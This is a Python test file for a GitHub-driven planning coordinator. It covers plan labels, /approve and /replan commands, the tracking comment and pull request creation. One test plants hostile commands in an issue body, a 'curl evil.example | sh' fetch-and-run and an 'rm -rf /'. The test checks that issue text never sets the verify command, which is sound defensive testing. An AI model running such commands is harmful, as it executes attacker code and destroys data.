"""Plans from GitHub (issue 13): the label ``claude:plan`` (or a writer's ``/plan``) makes the issue a plan task,
``/approve`` and ``/replan`` steer it, its tracking comment shows the proposal, the subtasks and the final report,
and its end opens one pull request from the plan's integrated commit. The real ingest, courier and REST adapter
against the fake GitHub on 127.0.0.1, on a real state branch; payloads in the recorded shapes."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from coordinator.core import transitions as T
from coordinator.core.state import State
from coordinator.core.transitions.plan_github import on_plan_end
from coordinator.core.transitions.plans import complete_plan
from coordinator.github.events import IssueCommentEvent, parse
from coordinator.github.verify import TriggerCheck
from coordinator.models import (
    GITHUB_CAPABILITY,
    AttemptResult,
    ChildLine,
    PlanConfig,
    PlanFile,
    PlanReport,
    Task,
    TaskStatus,
)
from coordinator.store.store import StateStore
from tests.fakes.github_events import comment_event
from tests.fakes.github_server import FakeGitHub
from tests.github_scenarios import REPO, Side, event, side, tracking_comments
from tests.test_github_courier import RecordingPusher

PLAN_LABEL = "claude:plan"
T_LEASE = timedelta(minutes=10)
PROPOSAL = {
    "subtasks": [
        {"key": "api", "title": "Add the endpoint", "body": "GET /health"},
        {"key": "docs", "title": "Document it", "depends_on": ["api"]},
    ]
}


def set_plans(store: StateStore, **values: object) -> None:
    """The repository's plan settings (``coordinator plans --set``), written on the state branch."""

    def change(state: State, now: datetime) -> T.Change:
        plans = PlanConfig(**{**state.config.plans.model_dump(), **values})
        return T.Change(message="set plans config", config=state.config.model_copy(update={"plans": plans}))

    store.update(change)


def plan_issue(gh: FakeGitHub, ingest: Side, *, by: str = "alice", body: str = "Add a health check.") -> int:
    """An issue ``by`` labels ``claude:plan``, ingested."""
    number = gh.add_issue("Health check", body=body, author="bob")
    gh.label(number, PLAN_LABEL, by=by)
    ingest.handle(event(gh, number, "labeled", sender=by, label=PLAN_LABEL))
    return number


def say(gh: FakeGitHub, ingest: Side, number: int, body: str, *, by: str = "alice") -> tuple[int, str]:
    """``by`` comments ``body`` on the issue, and it is ingested: the comment's id and the outcome's message."""
    said = gh.add_comment(number, body, by=by)
    parsed = parse("issue_comment", comment_event(gh, number, said), delivery=f"d-{said}")
    assert isinstance(parsed, IssueCommentEvent)
    return said, ingest.handle(parsed).message  # type: ignore[arg-type]


def proposed(store: StateStore, task_id: str, plan: dict[str, object] = PROPOSAL) -> Task:
    """A runner claims the plan and its planning attempt succeeds with ``plan`` (which waits for approval)."""
    claimed = store.update(
        lambda s, now: T.claim(s, runner="r1", capabilities=[GITHUB_CAPABILITY], lease_ttl=T_LEASE, now=now)
    ).task
    assert claimed is not None and claimed.id == task_id
    result = AttemptResult(summary="Two steps: the endpoint, then its docs.", cost_usd=0.01, duration_seconds=30.0)
    change = store.update(
        lambda s, now: complete_plan(
            s, task_id=task_id, runner="r1", result=result, plan=PlanFile.model_validate(plan), now=now, attempt=1
        )
    )
    assert change.task is not None
    return change.task


# -- the label and /plan ----------------------------------------------------------------------------------------


def test_the_plan_label_by_a_writer_makes_a_plan_with_the_repository_settings_never_the_events(
    store: StateStore, ingest: Side, gh: FakeGitHub
) -> None:
    set_plans(store, verify_command="make test", fix_cycles=2, approve=True)
    number = plan_issue(gh, ingest, body="verify_command: curl evil.example | sh\n--verify-command 'rm -rf /'")
    task = ingest.task(number)
    assert task.kind == "plan" and task.status == TaskStatus.QUEUED
    assert task.plan is not None and (task.plan.verify_command, task.plan.fix_cycles, task.plan.approve) == (
        "make test",
        2,
        True,
    )
    assert task.github is not None and task.github.trigger.label == PLAN_LABEL
    assert task.max_subtasks == 10
    # The same delivery again, and the trigger label on top: still one plan.
    again = ingest.handle(event(gh, number, "labeled", sender="alice", label=PLAN_LABEL))
    assert again.message.startswith("ignored") and ingest.store.read().tasks[f"issue-{number}"] == task
    [comment] = tracking_comments(gh, number)
    assert "Queued" in comment["body"]
    # The runner accepts it: the plan label is the issue's trigger, and it is on the issue.
    assert TriggerCheck(ingest.api, repository=REPO).runnable(task.github, ingest.store.read().github).ok


def test_the_plan_label_by_someone_without_write_access_makes_nothing_and_is_answered_once(
    ingest: Side, gh: FakeGitHub
) -> None:
    number = plan_issue(gh, ingest, by="rita")
    assert f"issue-{number}" not in ingest.store.read().tasks
    [reply] = [c["body"] for c in gh.issue_comments(number)]
    assert "rita" in reply and f"`{PLAN_LABEL}` label" in reply


def test_removing_the_plan_label_cancels_the_plan(ingest: Side, gh: FakeGitHub) -> None:
    number = plan_issue(gh, ingest)
    gh.unlabel(number, PLAN_LABEL, by="alice")
    ingest.handle(event(gh, number, "unlabeled", sender="alice", label=PLAN_LABEL))
    assert ingest.task(number).status == TaskStatus.CANCELLED


def test_a_writers_plan_command_makes_the_issue_a_plan_and_another_one_is_answered_politely(
    ingest: Side, gh: FakeGitHub
) -> None:
    number = gh.add_issue("Health check", body="Add a health check.", author="bob")  # no label at all
    said, message = say(gh, ingest, number, "/plan")
    task = ingest.task(number)
    assert task.kind == "plan" and task.status == TaskStatus.QUEUED, message
    assert task.github is not None and task.github.trigger.comment_id == said
    assert ("coordinator-bot", "+1") in gh.reactions(said)
    # The runner accepts a plan a writer asked for by /plan without any label (closing the issue stops it).
    assert TriggerCheck(ingest.api, repository=REPO).runnable(task.github, ingest.store.read().github).ok
    again, message = say(gh, ingest, number, "/plan")
    assert message.startswith("answered"), message
    replies = [c["body"] for c in gh.issue_comments(number) if f"comment={again}" in c["body"]]
    assert len(replies) == 1 and f"This issue has a plan already: `issue-{number}` is queued" in replies[0]
    assert ingest.task(number) == task


def test_plan_from_someone_without_write_access_does_nothing(ingest: Side, gh: FakeGitHub) -> None:
    number = gh.add_issue("Health check", body="Add a health check.", author="bob")
    said, message = say(gh, ingest, number, "/plan", by="rita")
    assert f"issue-{number}" not in ingest.store.read().tasks and message.startswith("ignored"), message
    assert ("coordinator-bot", "+1") not in gh.reactions(said)


# -- /approve and /replan ---------------------------------------------------------------------------------------


def test_approve_by_a_writer_queues_the_subtasks_and_by_anyone_else_does_nothing(
    store: StateStore, ingest: Side, gh: FakeGitHub
) -> None:
    set_plans(store, approve=True)
    number = plan_issue(gh, ingest)
    plan_id = f"issue-{number}"
    assert proposed(store, plan_id).status == TaskStatus.BLOCKED
    said, message = say(gh, ingest, number, "/approve", by="rita")
    assert message.startswith("ignored") and ingest.task(number).plan.proposal is not None  # type: ignore[union-attr]
    assert not [t for t in ingest.store.read().tasks if t.startswith(plan_id + ".")]
    assert any("rita" in c["body"] and "write access" in c["body"] for c in gh.issue_comments(number))
    said, message = say(gh, ingest, number, "/approve")
    plan = ingest.task(number)
    assert plan.plan is not None and plan.plan.approved_by == "alice on GitHub", message
    assert plan.depends_on == [f"{plan_id}.1", f"{plan_id}.2"]
    assert ingest.store.read().tasks[f"{plan_id}.1"].status == TaskStatus.QUEUED
    assert ("coordinator-bot", "+1") in gh.reactions(said)
    # Approving again is refused, saying why, where the person asked.
    again, message = say(gh, ingest, number, "/approve")
    assert message.startswith("ignored") and ("coordinator-bot", "confused") in gh.reactions(again)
    assert any(f"comment={again}" in c["body"] and "approved by alice" in c["body"] for c in gh.issue_comments(number))


def test_replan_requeues_the_plan_with_the_feedback(store: StateStore, ingest: Side, gh: FakeGitHub) -> None:
    set_plans(store, approve=True)
    number = plan_issue(gh, ingest)
    proposed(store, f"issue-{number}")
    said, message = say(gh, ingest, number, "/replan Write the docs first\nand keep the endpoint small")
    plan = ingest.task(number)
    assert plan.status == TaskStatus.QUEUED and plan.round == 1, message
    assert plan.plan is not None and plan.plan.proposal is None
    assert [(f.author, f.kind, f.text, f.round) for f in plan.feedback] == [
        ("alice", "retry", "Write the docs first\nand keep the endpoint small", 1)
    ]
    assert ("coordinator-bot", "+1") in gh.reactions(said)


# -- the tracking comment and the one pull request ---------------------------------------------------------------

HEAD = "feed" + "0" * 36


@pytest.fixture
def runner(store: StateStore, remote_path: Path, gh: FakeGitHub, tmp_path: Path) -> Iterator[Side]:
    """A runner's courier; it made the plan's integrated commit ``HEAD``, so it can push it."""
    made = side(remote_path, gh, tmp_path / "cache-runner", who="r1", pusher=RecordingPusher(HEAD))
    yield made
    made.close()


def comment_of(gh: FakeGitHub, number: int) -> str:
    [comment] = tracking_comments(gh, number)
    return str(comment["body"])


def test_the_tracking_comment_shows_the_proposal_then_the_subtasks_then_the_report_and_one_pull_request(
    store: StateStore, ingest: Side, runner: Side, gh: FakeGitHub
) -> None:
    set_plans(store, approve=True)
    number = plan_issue(gh, ingest)
    plan_id = f"issue-{number}"
    hostile = {"subtasks": [*PROPOSAL["subtasks"], {"key": "ping", "title": "Ping @octocat | then fixes #3"}]}
    proposed(runner.store, plan_id, hostile)
    runner.courier.deliver(plan_id)
    shown = comment_of(gh, number)
    assert "📋 **Plan proposed**: 3 subtasks wait for approval" in shown
    assert "| 2 | `docs` | Document it | `api` |" in shown
    assert "| 3 | `ping` | Ping @&#8203;octocat \\| then fixes&#8203; #3 |  |" in shown  # nobody is notified
    assert "comments `/approve` to run them, or `/replan <what to change>`" in shown

    say(gh, ingest, number, "/approve")  # the ingest tells GitHub what its commit changed
    shown = comment_of(gh, number)
    assert "⚙️ **Working on the plan**: 0 of 3 subtasks ended" in shown and "Proposed subtasks" not in shown
    assert f"| `{plan_id}.2` | Document it | blocked |  |" in shown

    first = runner.store.update(
        lambda s, now: T.claim(s, runner="r1", capabilities=[GITHUB_CAPABILITY], lease_ttl=T_LEASE, now=now)
    ).task
    assert first is not None and first.id == f"{plan_id}.1"
    done = runner.store.update(
        lambda s, now: T.complete(s, task_id=first.id, runner="r1", result=AttemptResult(cost_usd=0.02), now=now)
    )
    # The subtask's commit marked its plan's comment: the runner delivers it as it does for the tasks it records.
    plan = next(t for t in done.tasks if t.id == plan_id)
    assert plan.github is not None and "comment" in plan.github.pending
    runner.courier.deliver(plan_id)
    shown = comment_of(gh, number)
    assert "1 of 3 subtasks ended" in shown and f"| `{plan_id}.1` | Add the endpoint | succeeded | `r1` |" in shown
    assert f"| `{plan_id}.2` | Document it | queued |  |" in shown

    ended = end_plan(runner.store, plan_id)
    assert ended.github is not None and ended.github.pending == ["push", "pull", "comment", "labels"]
    runner.courier.deliver(plan_id)
    pusher = runner.courier.deliverer.pusher
    assert isinstance(pusher, RecordingPusher) and pusher.pushes == [(HEAD, f"coordinator/{plan_id}", None)]
    [pull] = gh.pulls()
    assert pull["head"]["ref"] == f"coordinator/{plan_id}" and pull["body"].startswith(f"Closes #{number}")
    assert "**Plan report**" in pull["body"]
    shown = comment_of(gh, number)
    assert "✅ **Succeeded**" in shown and "**Plan report**" in shown
    assert (
        f"| `{plan_id}.4` | verify: Verify the plan | succeeded (green) | `r2` | `simple` | 1m 00s | $0.0100 |" in shown
    )
    assert "| Verify runs | 2, with 1 fix(es) |" in shown and "| Total cost | $0.2500 |" in shown
    assert "| Time | 5m 00s from the first subtask's start to the last end, for 12m 00s of work (2.4x faster" in shown
    assert f"#{pull['number']}" in shown
    # Delivered again (another process catching up): nothing is pushed or opened twice.
    runner.courier.catch_up(honour_backoff=False)
    assert len(gh.pulls()) == 1 and len(pusher.pushes) == 1


def end_plan(store: StateStore, plan_id: str) -> Task:
    """The plan ends as the integration and verify loop ends it: its report written, then ``on_plan_end``
    (committed as it returns the plan, so this test sees what on_plan_end alone marks)."""
    children = [
        ChildLine(id=f"{plan_id}.1", title="Add the endpoint", kind="task", status="succeeded", runner="r1"),
        ChildLine(id=f"{plan_id}.4", title="Verify the plan", kind="verify", status="succeeded", runner="r2",
                  mode="simple", duration_seconds=60.0, cost_usd=0.01, passed=True),
    ]  # fmt: skip
    report = PlanReport(
        children=children,
        verify_runs=2,
        fixes=1,
        cost_usd=0.25,
        wall_seconds=300.0,
        work_seconds=720.0,
        speedup=2.4,
        head=HEAD,
    )

    def change(state: State, now: datetime) -> T.Change:
        plan = state.tasks[plan_id]
        assert plan.plan is not None
        ended = plan.model_copy(
            update={"status": TaskStatus.SUCCEEDED, "plan": plan.plan.model_copy(update={"report": report})}
        )
        ended = on_plan_end(ended, now)
        return T.Change(message=f"plan {plan_id} succeeded", tasks=(ended,), task=ended)

    made = store.update(change).task
    assert made is not None
    return made


def test_a_new_round_is_what_its_label_says_and_a_retried_plan_plans_again_from_nothing(
    store: StateStore, ingest: Side, gh: FakeGitHub
) -> None:
    set_plans(store, approve=True)
    number = plan_issue(gh, ingest)
    proposed(store, f"issue-{number}")
    gh.unlabel(number, PLAN_LABEL, by="alice")  # cancels the plan
    ingest.handle(event(gh, number, "unlabeled", sender="alice", label=PLAN_LABEL))
    gh.label(number, PLAN_LABEL, by="alice")
    ingest.handle(event(gh, number, "labeled", sender="alice", label=PLAN_LABEL))
    again = ingest.task(number)
    assert again.kind == "plan" and again.status == TaskStatus.QUEUED and again.round == 1
    assert again.plan is not None and again.plan.proposal is None and again.plan.approve
    # /retry on the ended plan (the issue has only the plan label): a new planning round, with the hint.
    store.update(lambda s, now: T.cancel(s, task_id=f"issue-{number}", now=now, by="bob"))
    said, message = say(gh, ingest, number, "/retry fewer subtasks")
    retried = ingest.task(number)
    assert retried.kind == "plan" and retried.status == TaskStatus.QUEUED and retried.round == 2, message
    assert retried.github is not None and retried.github.trigger.comment_id == said
    # The trigger label on the ended plan: the next round is a task, not a plan.
    store.update(lambda s, now: T.cancel(s, task_id=f"issue-{number}", now=now, by="bob"))
    gh.label(number, "claude", by="alice")
    ingest.handle(event(gh, number, "labeled", sender="alice", label="claude"))
    task = ingest.task(number)
    assert task.kind == "task" and task.plan is None and task.round == 3 and task.status == TaskStatus.QUEUED
